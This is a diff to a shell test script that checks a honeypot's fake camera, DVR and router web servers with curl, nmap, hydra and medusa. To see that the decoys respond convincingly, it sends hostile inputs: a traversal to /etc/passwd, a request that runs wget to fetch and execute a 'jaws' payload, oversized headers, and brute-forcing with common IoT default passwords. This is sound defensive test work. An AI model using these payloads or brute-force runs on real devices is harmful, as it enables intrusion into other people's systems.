@@ -1,85 +1,106 @@
-#!/bin/sh
-# A decoy's web server met with curl and nmap.
-#   HOST=127.0.0.1 PORT=8080 PERSONA=camera tests/e2e/http.sh
-# Exit status 0: all held, 1: the last line says what did not, 77: a client is missing.
-set -u
-HOST=${HOST:-127.0.0.1}
-PORT=${PORT:-8080}
-PERSONA=${PERSONA:-camera}
-URL=http://$HOST:$PORT
-WORK=$(mktemp -d)
-trap 'rm -rf "$WORK"' EXIT
-
-fail()
-{
-	echo "http.sh: $PERSONA: $1" >&2
-	exit 1
-}
-
-# status EXPECTED WHAT CURL-ARGUMENTS...
-status()
-{
-	want=$1 what=$2
-	shift 2
-	got=$(curl -s -m 20 -o "$WORK/body" -D "$WORK/head" -w '%{http_code}' "$@")
-	[ "$got" = "$want" ] || fail "$what: status $got, expected $want"
-}
-
-holds() { grep -q -- "$2" "$WORK/$1" || fail "$3: no \"$2\" in the $1"; }
-
-for client in curl nmap; do
-	command -v $client >/dev/null || { echo "http.sh: $client is missing" >&2; exit 77; }
+#!/bin/bash
+# The decoys' web servers met with curl, nmap, hydra and medusa.
+#   tests/e2e/http.sh                                  a kansoku of its own, all three personas
+#   HOST=192.0.2.5 PORT=80 PERSONA=camera tests/e2e/http.sh     one that runs already
+# Exit status 0: all held, 1: the last lines say what did not, 77: a client is missing.
+GIVEN_PORT=${PORT:-}
+. "$(dirname "$0")/lib.sh"
+for client in curl nmap hydra medusa; do
+	command -v $client >/dev/null || skip "$client is missing"
 done
 
-case $PERSONA in
-camera)
-	server='GoAhead WebServer'
-	status 401 'page without password' "$URL/"
+# status EXPECTED WHAT CURL-ARGUMENTS...: the answer's head and body stay for holds()
+status() {
+	local want=$1 what=$2 got
+	shift 2
+	got=$(curl -s -m 20 -o "$WORK/body" -D "$WORK/head" -w '%{http_code}' "$@")
+	[ "$got" = "$want" ] || fail "$persona: $what: status $got, expected $want"
+}
+
+holds() { grep -q -- "$2" "$WORK/$1" || fail "$persona: $3: no \"$2\" in the $1"; }
+
+camera() {
+	status 401 'page without password' "$url/"
 	holds head 'Digest realm="WIFICAM"' 'challenge'
-	status 401 'digest with a wrong password' --digest -u admin:wrong "$URL/"
-	status 200 'digest' --digest -u admin:admin "$URL/get_status.cgi"
+	status 401 'digest with a wrong password' --digest -u admin:wrong "$url/"
+	status 200 'digest' --digest -u admin:admin "$url/get_status.cgi"
 	holds body 'realdeviceid' 'status page'
-	status 200 'basic' -u admin:admin "$URL/main.htm"
-	status 200 'form' -c "$WORK/jar" -d 'loginuse=admin&loginpas=admin' "$URL/login.cgi"
-	status 200 'cookie' -b "$WORK/jar" "$URL/main.htm"
-	status 200 'picture' -u admin:admin "$URL/snapshot.cgi"
-	head -c 600 /dev/urandom > "$WORK/firmware.bin"
-	status 200 'upload in a form' -u admin:admin -F "file=@$WORK/firmware.bin" "$URL/upgrade_firmware.cgi"
-	status 400 'PUT' -T "$WORK/firmware.bin" "$URL/x"
-	status 404 'no such page' "$URL/nice%20ports%2C/Tri%6Eity.txt%2ebak"
-	;;
-dvr)
-	server='uc-httpd 1.0.0'
-	status 200 'login page' "$URL/"
+	status 200 'basic' -u admin:admin "$url/main.htm"
+	status 200 'form' -c "$WORK/jar" -d 'loginuse=admin&loginpas=admin' "$url/login.cgi"
+	status 200 'cookie' -b "$WORK/jar" "$url/main.htm"
+	status 200 'picture' -u admin:admin "$url/snapshot.cgi"
+	status 200 'upload in a form' -u admin:admin -F "file=@$WORK/firmware.bin" "$url/upgrade_firmware.cgi"
+	status 400 'PUT' -T "$WORK/firmware.bin" "$url/loader.bin"
+	status 400 'a head without end' -H "X: $(head -c 20000 /dev/zero | tr '\0' x)" "$url/"
+	status 404 'no such page' "$url/nice%20ports%2C/Tri%6Eity.txt%2ebak"
+	guess http-get /
+}
+
+dvr() {
+	status 200 'login page' "$url/"
 	holds body 'NETSurveillance' 'login page'
-	status 200 'form with a wrong password' -d 'command=login&username=admin&password=x' "$URL/Login.htm"
+	status 200 'form with a wrong password' -d 'command=login&username=admin&password=x' "$url/Login.htm"
 	holds body 'Log in failed' 'refusal'
-	status 200 'form' -c "$WORK/jar" -d 'command=login&username=admin&password=' "$URL/Login.htm"
-	status 200 'cookie' -b "$WORK/jar" "$URL/DVR.htm"
+	status 200 'form' -c "$WORK/jar" -d 'command=login&username=admin&password=' "$url/Login.htm"
+	status 200 'cookie' -b "$WORK/jar" "$url/DVR.htm"
 	holds body 'Channels' 'main page'
-	status 200 'traversal' --path-as-is "$URL/../../../etc/passwd"
+	status 200 'traversal' --path-as-is "$url/../../../etc/passwd"
 	holds body 'root:' 'traversal'
-	status 404 'no such page' "$URL/shell?cd+/tmp"
-	;;
-router)
-	server='TP-LINK WR841N'
-	status 401 'page without password' "$URL/"
-	status 401 'wrong password' -u admin:wrong "$URL/"
-	status 200 'basic' -u admin:admin "$URL/userRpm/StatusRpm.htm"
+	status 404 'attack' "$url/shell?cd+/tmp;wget+http://127.9.9.9/jaws;sh+jaws"
+	status 501 'upload in chunks' -T - "$url/chunked.bin" <"$WORK/firmware.bin"
+	guess http-post-form '/Login.htm:command=login&username=^USER^&password=^PASS^:Log in failed'
+}
+
+router() {
+	status 401 'page without password' "$url/"
+	status 401 'wrong password' -u admin:wrong "$url/"
+	status 200 'basic' -u admin:admin "$url/userRpm/StatusRpm.htm"
 	holds body 'wanPara' 'status page'
-	;;
-*)
-	fail 'no such persona here; camera, dvr and router are known'
-	;;
-esac
+	guess http-get /
+	found=$(medusa -h "$host" -n "$port" -u admin -P "$WORK/passwords" -M http -m DIR:/ 2>&1 | grep FOUND)
+	[[ $found == *"Password: admin [SUCCESS]"* ]] || fail "$persona: medusa found \"$found\""
+	[ "$(wc -l <<<"$found")" = 1 ] || fail "$persona: medusa found a false password: $found"
+}
 
-first=$(curl -s -m 20 -D - -o /dev/null "$URL/" | tr -d '\r' | head -1)
-old=$(curl -s -m 20 --http1.0 -D - -o /dev/null "$URL/" | tr -d '\r' | head -1)
-[ -n "$first" ] && [ -n "$old" ] || fail 'HTTP/1.1 and HTTP/1.0 are both answered'
-curl -s -m 20 -I "$URL/" >"$WORK/head" || fail 'HEAD is answered'
-curl -s -m 20 --http0.9 "$URL/" >/dev/null || fail 'a client that accepts HTTP/0.9 is answered'
+# Exactly the one password of the list that is right must be found.
+guess() {
+	local found
+	found=$(hydra -q -I -t 2 -l admin -P "$WORK/passwords" -s "$port" "$host" "$1" "$2" 2>&1 |
+		sed -n 's/.*password: *//p')
+	[ "$found" = admin ] || fail "$persona: hydra found \"$found\", expected \"admin\""
+}
 
-nmap -n -Pn -sV -p "$PORT" "$HOST" >"$WORK/nmap" 2>&1
-grep -q "$server" "$WORK/nmap" || { cat "$WORK/nmap" >&2; fail "nmap names it $server"; }
-grep -qi honeypot "$WORK/nmap" && fail 'nmap calls it a honeypot'
-echo "http.sh: $PERSONA: as expected, nmap says $(grep "^$PORT/tcp" "$WORK/nmap")"
+declare -A named=([camera]='GoAhead WebServer' [dvr]='uc-httpd 1.0.0' [router]='TP-LINK WR841N')
+
+meet() { # persona host port
+	persona=$1 host=$2 port=$3 url=http://$2:$3
+	[ -n "${named[$persona]:-}" ] || fail "no persona $persona is known here"
+	"$persona"
+	curl -s -m 20 --http1.0 -o /dev/null "$url/" || fail "$persona: HTTP/1.0 is not answered"
+	curl -s -m 20 -I -o /dev/null "$url/" || fail "$persona: HEAD is not answered"
+	nmap -n -Pn -sV -p "$port" "$host" >"$WORK/nmap" 2>&1
+	grep -q "${named[$persona]}" "$WORK/nmap" || fail "$persona: nmap says $(grep "^$port" "$WORK/nmap")"
+	grep -qi honeypot "$WORK/nmap" && fail "$persona: nmap calls it a honeypot"
+	echo "$persona: as expected, nmap says $(grep "^$port/tcp" "$WORK/nmap")"
+}
+
+head -c 600 /dev/urandom >"$WORK/firmware.bin"
+printf '%s\n' admin123 xc3511 12345678 admin qwerty letmein >"$WORK/passwords"
+if [ -n "$GIVEN_PORT" ]; then
+	meet "${PERSONA:-camera}" "$HOST" "$GIVEN_PORT"
+	exit
+fi
+
+loopback_config <<-EOT
+	passive:
+	  decoys:
+	    - {prefix: 127.21.0.1, personas: [camera]}
+	    - {prefix: 127.21.0.2, personas: [dvr]}
+	    - {prefix: 127.21.0.3, personas: [router]}
+	  services: {http: {ports: [$HTTP_PORT]}}
+	  workers: 1
+EOT
+start_kansoku
+meet camera 127.21.0.1 $HTTP_PORT
+meet dvr 127.21.0.2 $HTTP_PORT
+meet router 127.21.0.3 $HTTP_PORT
